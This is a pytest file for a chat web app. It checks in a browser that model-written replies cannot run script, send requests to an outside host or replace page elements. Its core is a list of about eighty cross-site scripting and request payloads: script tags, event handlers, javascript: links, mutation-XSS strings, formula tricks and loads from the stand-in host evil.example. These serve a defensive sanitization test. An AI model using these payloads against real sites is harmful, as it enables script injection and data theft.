"""Whatever a model writes, no script of it runs, no request of it leaves, and nothing of the page is replaced.

All texts are shown in one page of Chromium, each as a thought and as an answer; each tries to call `hit(its number)` or
to ask a server for `/its number`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from site_driver import Site

from r1chat.conversations import Provenance
from r1chat.messages import Reply
from r1chat.store import Store

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::ResourceWarning")  # of gradio's

OUT = "http://evil.example"

# N becomes the number of the text.
HOSTILE = {
    # scripts
    "script": "<script>hit(N)</script>",
    "script from elsewhere": f'<script src="{OUT}/N"></script>',
    "module": f'<script type="module">import "{OUT}/N"; hit(N)</script>',
    "script without its end": "<script>hit(N)",
    "script in upper case": "<SCRIPT>hit(N)</SCRIPT>",
    "script with a slash": "<script/x>hit(N)</script>",
    "script in a comment": "<!--><script>hit(N)</script>-->",
    "script in CDATA": "<![CDATA[<script>hit(N)</script>]]>",
    "script in a template": "<template><script>hit(N)</script></template>",
    "script in noscript": '<noscript><p title="</noscript><script>hit(N)</script>">',
    "script in a code block's language": '```"><script>hit(N)</script>\nx\n```',
    "script in a table": "| a |\n|---|\n| <script>hit(N)</script> |",
    "script in a list in a quote": "> - <script>hit(N)</script>",
    "script as entities": "&lt;script&gt;hit(N)&lt;/script&gt;",
    "script as numbered entities": "&#60;script&#62;hit(N)&#60;/script&#62;",
    "script with a NUL": "<scr\x00ipt>hit(N)</script>",
    "script of full-width signs": "＜script＞hit(N)＜/script＞",
    "import map": f'<script type="importmap">{{"imports": {{"x": "{OUT}/N"}}}}</script>',
    # handlers
    "img onerror": '<img src=x onerror="hit(N)">',
    "img without quotes": "<img src=x onerror=hit(N)>",
    "svg onload": '<svg onload="hit(N)"></svg>',
    "svg with a script": "<svg><script>hit(N)</script></svg>",
    "svg animate": '<svg><animate onbegin="hit(N)" attributeName=x dur=1s></svg>',
    "svg foreignObject": "<svg><foreignObject><body onload=hit(N)></foreignObject></svg>",
    "math with a link": '<math><maction actiontype="statusline" xlink:href="javascript:hit(N)">x</maction></math>',
    "math that breaks out": "<math><mtext></math><img src=x onerror=hit(N)></mtext>",
    "details ontoggle": "<details open ontoggle=hit(N)>x</details>",
    "input autofocus": "<input autofocus onfocus=hit(N)>",
    "video onerror": "<video><source onerror=hit(N)></video>",
    "body onload": "<body onload=hit(N)>",
    "marquee": "<marquee onstart=hit(N)>x</marquee>",
    "animation": "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=hit(N)>x</p>",
    "handler after a new line": "<img\nsrc=x\nonerror\n=\nhit(N)>",
    "handler in an alt text": '![" onerror="hit(N)](x)',
    "handler in a link's title": "[x](http://example.org/ '\" onmouseover=\"hit(N)')",
    "handler in an address": '<http://example.org/" onclick="hit(N)>',
    "handler in a heading": "# <a id=x tabindex=1 onfocus=hit(N)>x</a>",
    "mutated namespace": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(N)>",
    "mutated noembed": '<noembed><img title="</noembed><img src onerror=hit(N)>"></noembed>',
    # addresses
    "javascript link": "[x](javascript:hit(N))",
    "javascript link with a tab": "[x](java\tscript:hit(N))",
    "javascript link as entities": "[x](&#106;avascript:hit(N))",
    "javascript autolink": "<javascript:hit(N)>",
    "javascript reference": "[x]\n\n[x]: javascript:hit(N)",
    "data link": "[x](data:text/html,<script>hit(N)</script>)",
    "vbscript link": "[x](vbscript:hit(N))",
    "blob link": "[x](blob:null/N)",
    # requests
    "image": f"![x]({OUT}/N)",
    "image by reference": f"![x]\n\n[x]: {OUT}/N",
    "image without a scheme": "![x](//evil.example/N)",
    "image of our own": "![x](/r1chat/act?N)",
    "img": f"<img src={OUT}/N>",
    "picture": f"<picture><source srcset={OUT}/N><img></picture>",
    "iframe": f"<iframe src={OUT}/N></iframe>",
    "iframe with its document": '<iframe srcdoc="<script>parent.hit(N)</script>"></iframe>',
    "object": f"<object data={OUT}/N></object>",
    "embed": f"<embed src={OUT}/N>",
    "style sheet": f'<link rel=stylesheet href="{OUT}/N">',
    "prefetch": f'<link rel=prefetch href="{OUT}/N"><link rel=dns-prefetch href="//evil.example">',
    "style with an import": f"<style>@import '{OUT}/N';</style>",
    "style of an element": f'<p style="background:url({OUT}/N)">x</p>',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={OUT}/N">',
    "base": f'<base href="{OUT}/N/">',
    "form": f"<form action={OUT}/N><button autofocus>x</button></form>",
    "audio": f"<audio autoplay src={OUT}/N></audio>",
    "ping": f'<a href="#" ping="{OUT}/N">x</a>',
    "use of a svg": f'<svg><use href="{OUT}/N#x"/></svg>',
    # formulas
    "formula with href": r"$\href{javascript:hit(N)}{x}$",
    "formula with a picture": rf"$\includegraphics{{{OUT}/N}}$",
    "formula with HTML": r"$\text{</mtext></math><img src=x onerror=hit(N)>}$",
    "formula with html data": r"$\htmlData{onclick=hit(N)}{x}$",
    "formula with a style": rf"$\htmlStyle{{background:url({OUT}/N)}}{{x}}$",
    "formula in a formula": r"\[\begin{matrix}<svg onload=hit(N)>\end{matrix}\]",
    # the page's own
    "template of the page": "${hit(N)} {{hit(N)}} #{hit(N)} <%= hit(N) %>",
    "button of ours": '<button data-verb="delete" data-id="x" autofocus>hit</button>',
    "id of ours": '<div id="transcript"></div><form id="prompt"></form>',
    "clobbered name": '<form name="r1chat"><input name="act"></form><img name="r1chatKey">',
    "end of the thought": "</think><script>hit(N)</script><think>",
    "end of the fold": "</details></section><img src=x onerror=hit(N)>",
    "terminal codes": "\x1b]8;;javascript:hit(N)\x07x\x1b]8;;\x07",
    "writing direction": "\u202ehit(N)\u202c\u2066x",
}


FOREIGN = """[...document.querySelectorAll('.answer *, .step *, .ask *')].filter(node =>
  /^(script|iframe|object|embed|link|meta|base|style|form|img|video|audio|source|svg|template|marquee)$/i.test(node.tagName)
      && !node.matches('svg.glyph, svg.icon')
  || [...node.attributes].some(({name}) => name.startsWith('on'))).map(node => node.outerHTML.slice(0, 200))"""


def numbered(text: str, number: int) -> str:
    """The text with its number; N stands alone, or behind a slash, a bracket or a question mark."""
    return re.sub(r"(?<=[(/?])N(?![a-zA-Z])", str(number), text)


class Evidence:
    """What the page did while all texts stood in it."""

    def __init__(self) -> None:
        self.hits: list[int] = []
        self.outside: list[str] = []
        self.dialogs: list[str] = []
        self.html: dict[int, str] = {}
        self.links: list[str] = []
        self.foreign: list[str] = []


@pytest.fixture(scope="module")
def evidence(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Evidence]:
    """Show every text, click on what it offers, and note what comes of it."""
    folder: Path = tmp_path_factory.mktemp("data")
    with closing(Store(f"sqlite:///{folder / 'r1chat.db'}")) as store:
        info = store.new_conversation("<img src=x onerror=hit(0)><script>hit(0)</script>")
        after = None
        for number, text in enumerate(HOSTILE.values()):
            content = numbered(text, number)
            turn = store.add_turn(info.id, content, after)
            reply = Reply(reasoning=f"Wait. {content}\n\nSo:\n\n{content}", answer=content, closed=True, finish="stop")
            after = store.add_reply(turn.id, Provenance(backend="scripted", model=content[:200]), reply).id
    site = Site(browser, folder)
    site.serve(["<think>", "x", "</think>", "y"])
    record = Evidence()
    context = browser.new_context(locale="en-GB")
    site.contexts.append(context)
    context.expose_function("hit", lambda number: record.hits.append(int(number)))
    page = context.new_page()
    page.on("request", lambda request: record.outside.append(request.url))
    page.on("dialog", lambda dialog: (record.dialogs.append(dialog.message), dialog.dismiss()))
    assert site.server is not None
    page.goto(f"{site.server.address}&c={info.id}")
    page.locator(".reply").nth(len(HOSTILE) - 1).wait_for()
    page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
    page.wait_for_timeout(1000)
    record.links = page.evaluate("[...document.querySelectorAll('.read a')].map(a => a.href)")
    record.foreign = page.evaluate(FOREIGN)
    for reply in page.evaluate("[...document.querySelectorAll('.reply')].map(reply => reply.innerHTML)"):
        record.html[len(record.html)] = reply
    record.outside = [url for url in record.outside if not url.startswith((site.server.origin + "/", "data:", "blob:"))]
    yield record
    site.down()


class Handlers(HTMLParser):
    """Collects what would run on an event: attributes `on…` of the elements of a reply."""

    def __init__(self) -> None:
        super().__init__()
        self.elements, self.found = 0, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements += 1
        self.found += [f"{tag} {name}={value}" for name, value in attrs if name.startswith("on")]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_script_of_a_model_runs_and_no_request_leaves(evidence: Evidence, name: str) -> None:
    number = list(HOSTILE).index(name)
    assert number not in evidence.hits
    assert not [url for url in evidence.outside if re.search(rf"/{number}\b", url)]
    handlers = Handlers()
    handlers.feed(evidence.html[number])
    assert handlers.elements > 10 and handlers.found == []


def test_nothing_at_all_was_asked_of_another_server(evidence: Evidence) -> None:
    assert evidence.outside == [] and evidence.hits == [] and evidence.dialogs == []


def test_no_element_that_loads_or_runs_something_comes_from_a_model(evidence: Evidence) -> None:
    assert evidence.foreign == []


def test_links_of_a_model_lead_to_web_pages_elsewhere_alone(evidence: Evidence) -> None:
    assert evidence.links, "no link was left: this test shows nothing"
    assert [link for link in evidence.links if not re.match(r"https?://(?!127\.|localhost)|mailto:", link)] == []
